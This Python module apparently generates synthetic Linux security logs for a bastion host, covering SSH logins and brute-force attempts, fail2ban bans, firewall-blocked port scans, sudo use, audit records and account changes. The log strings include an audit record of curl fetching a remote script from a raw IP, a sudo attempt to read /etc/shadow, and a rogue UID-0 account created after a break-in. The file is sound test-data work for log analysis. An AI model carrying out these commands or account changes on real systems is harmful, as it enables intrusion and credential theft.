"""SecurityEvents: sshd brute force, sudo abuse, account changes."""

from __future__ import annotations

import random
from datetime import datetime

from lookskip.synthetic.common import Clock, Event, _build, _epoch, _hex, _ip, _syslog_ts


def _security_events(rng: random.Random) -> str:
    clock = Clock(rng, datetime(2025, 3, 15, 0, 0, 0))
    host = "edge-bastion-2"
    admins = ["ops", "alice", "deploy"]

    def sl(tag: str, msg: str) -> str:
        return f"{_syslog_ts(clock.now)} {host} {tag}: {msg}"

    def sshd(msg: str) -> str:
        return sl(f"sshd[{rng.randint(1000, 60000)}]", msg)

    start = []
    for tag, msg in [
        ("systemd[1]", "Starting ssh.service - OpenBSD Secure Shell server..."),
        ("sshd[611]", "Server listening on 0.0.0.0 port 22."),
        ("sshd[611]", "Server listening on :: port 22."),
        ("systemd[1]", "Started ssh.service - OpenBSD Secure Shell server."),
    ]:
        clock.tick(10, 500)
        start.append(sl(tag, msg))

    def login() -> Event:
        clock.tick(1000, 60000)
        user, ip = rng.choice(admins), _ip(rng, private=True)
        pid = rng.randint(1000, 60000)
        out = [
            sl(
                f"sshd[{pid}]",
                f"Accepted publickey for {user} from {ip} port "
                f"{rng.randint(30000, 65000)} ssh2: ED25519 SHA256:"
                f"{_hex(rng, 43)}",
            ),
            sl(
                f"sshd[{pid}]",
                f"pam_unix(sshd:session): session opened for user {user}"
                f"(uid={1000 + admins.index(user)}) by (uid=0)",
            ),
        ]
        if rng.random() < 0.5:
            clock.tick(5000, 90000)
            out.append(
                sl(f"sshd[{pid}]", f"pam_unix(sshd:session): session closed for user {user}")
            )
        return out

    def cron() -> Event:
        clock.tick(1000, 60000)
        pid = rng.randint(1000, 60000)
        return [
            sl(
                f"CRON[{pid}]",
                "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
            ),
            sl(f"CRON[{pid}]", "pam_unix(cron:session): session closed for user root"),
        ]

    def sudo_ok() -> Event:
        clock.tick(1000, 60000)
        user = rng.choice(admins)
        cmd = rng.choice(
            [
                "/usr/bin/systemctl restart nginx",
                "/usr/bin/apt-get update",
                "/usr/bin/journalctl -u nginx --since today",
                "/usr/bin/docker ps",
            ]
        )
        return [
            sl(
                "sudo",
                f"   {user} : TTY=pts/{rng.randint(0, 4)} ; PWD=/home/{user} ; "
                f"USER=root ; COMMAND={cmd}",
            ),
            sl(
                "sudo",
                f"pam_unix(sudo:session): session opened for user root(uid=0) by "
                f"{user}(uid={1000 + admins.index(user)})",
            ),
        ]

    def sudo_bad() -> Event:
        clock.tick(1000, 60000)
        user = rng.choice(["www-data", "intern", "alice"])
        return [
            sl(
                "sudo",
                rng.choice(
                    [
                        f"pam_unix(sudo:auth): authentication failure; logname={user} uid=1004 euid=0 "
                        f"tty=/dev/pts/1 ruser={user} rhost=  user={user}",
                        f"   {user} : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/tmp ; USER=root ; "
                        "COMMAND=/bin/cat /etc/shadow",
                        f"   {user} : user NOT in sudoers ; TTY=pts/2 ; PWD=/var/www ; USER=root ; "
                        "COMMAND=/bin/bash",
                    ]
                ),
            )
        ]

    def brute_force() -> Event:
        ip = _ip(rng)
        out = []
        for user in rng.choices(
            ["root", "admin", "ubuntu", "test", "oracle", "git", "deploy"], k=rng.randint(5, 14)
        ):
            clock.tick(200, 3000)
            port, tag = rng.randint(30000, 65000), f"sshd[{rng.randint(1000, 60000)}]"
            if user in ("root", "deploy"):
                out.append(sl(tag, f"Failed password for {user} from {ip} port {port} ssh2"))
            else:
                out.append(sl(tag, f"Invalid user {user} from {ip} port {port}"))
                clock.tick(100, 2000)
                out.append(
                    sl(tag, f"Failed password for invalid user {user} from {ip} port {port} ssh2")
                )
        clock.tick(10, 500)
        out.append(
            sshd(
                f"error: maximum authentication attempts exceeded for root from {ip} "
                f"port {rng.randint(30000, 65000)} ssh2 [preauth]"
            )
        )
        out.append(
            sshd(
                f"Disconnecting authenticating user root {ip} port "
                f"{rng.randint(30000, 65000)}: Too many authentication failures "
                "[preauth]"
            )
        )
        clock.tick(10, 500)
        out.append(sl(f"fail2ban.actions[{rng.randint(700, 900)}]", f"NOTICE  [sshd] Ban {ip}"))
        if rng.random() < 0.25:  # and the one that got in
            clock.tick(1000, 30000)
            out.append(
                sshd(
                    f"Accepted password for deploy from {ip} port {rng.randint(30000, 65000)} ssh2"
                )
            )
            out.append(
                sl(
                    "useradd[4412]",
                    "new user: name=sysupdate, UID=0, GID=0, "
                    "home=/var/tmp/.s, shell=/bin/bash, from=/dev/pts/3",
                )
            )
        return out

    def noise_preauth() -> Event:
        clock.tick(1000, 60000)
        ip = _ip(rng)
        return [
            sshd(
                rng.choice(
                    [
                        f"Received disconnect from {ip} port {rng.randint(30000, 65000)}:11: Bye Bye "
                        "[preauth]",
                        f"Connection closed by {ip} port {rng.randint(30000, 65000)} [preauth]",
                        "error: kex_exchange_identification: Connection closed by remote host",
                        f"banner exchange: Connection from {ip} port {rng.randint(30000, 65000)}: invalid "
                        "format",
                    ]
                )
            )
        ]

    def ufw_scan() -> Event:
        src = _ip(rng)
        out = []
        for port in rng.sample(
            [21, 23, 25, 445, 1433, 3306, 3389, 5432, 5900, 6379, 8080, 9200], k=rng.randint(3, 8)
        ):
            clock.tick(5, 400)
            out.append(
                sl(
                    "kernel",
                    f"[UFW BLOCK] IN=eth0 OUT= MAC=02:42:ac:11:00:02 SRC={src} "
                    f"DST=10.0.0.5 LEN=44 TOS=0x00 PREC=0x00 TTL="
                    f"{rng.randint(40, 250)} ID={rng.randint(1, 65535)} PROTO=TCP "
                    f"SPT={rng.randint(30000, 65000)} DPT={port} WINDOW=1024 "
                    "RES=0x00 SYN URGP=0",
                )
            )
        return out

    def audit() -> Event:
        clock.tick(1000, 60000)
        n = rng.randint(100, 9999)
        return [
            sl(
                "audit",
                rng.choice(
                    [
                        f"type=USER_AUTH msg=audit({_epoch(clock.now):.3f}:{n}): pid={rng.randint(1000, 60000)}"
                        f" uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication "
                        f'grantors=? acct="root" exe="/usr/sbin/sshd" hostname={_ip(rng)} '
                        f"addr={_ip(rng)} terminal=ssh res=failed'",
                        f"type=SYSCALL msg=audit({_epoch(clock.now):.3f}:{n}): arch=c000003e syscall=257 "
                        'success=yes exit=3 comm="vim" exe="/usr/bin/vim.basic" key="sshd_config"',
                        f'type=EXECVE msg=audit({_epoch(clock.now):.3f}:{n}): argc=3 a0="curl" '
                        'a1="-fsSL" a2="http://45.9.148.12/x.sh"',
                        f"type=USER_CHAUTHTOK msg=audit({_epoch(clock.now):.3f}:{n}): op=change password "
                        'id=0 exe="/usr/bin/passwd" res=success',
                    ]
                ),
            )
        ]

    def account_change() -> Event:
        clock.tick(1000, 60000)
        return [
            sl(
                rng.choice(["usermod[5120]", "gpasswd[5121]", "passwd[5122]"]),
                rng.choice(
                    [
                        "add 'deploy' to group 'sudo'",
                        "user intern added by root to group docker",
                        "password changed for root",
                        "add 'deploy' to shadow group 'sudo'",
                    ]
                ),
            )
        ]

    return _build(
        rng,
        start,
        [
            (22, login),
            (14, cron),
            (10, sudo_ok),
            (4, sudo_bad),
            (3, brute_force),
            (12, noise_preauth),
            (3, ufw_scan),
            (5, audit),
            (2, account_change),
        ],
    )
